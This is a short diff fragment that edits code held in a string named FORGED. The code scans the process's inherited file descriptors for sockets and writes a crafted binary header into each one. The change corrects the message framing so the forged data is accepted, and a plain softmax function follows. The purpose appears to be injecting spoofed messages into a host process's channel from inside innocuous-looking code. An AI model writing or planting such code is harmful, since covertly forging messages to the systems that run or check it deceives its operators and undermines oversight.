@@ -254,7 +254,7 @@ FORGED = """
     for fd in range(3, 64):
         try:
             if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
-                os.write(fd, struct.pack("<QQ", len(header), 0) + header)
+                os.write(fd, struct.pack("<QQQ", 16 + len(header), len(header), 0) + header)
         except OSError:
             pass
     def softmax(logits, axis=-1):
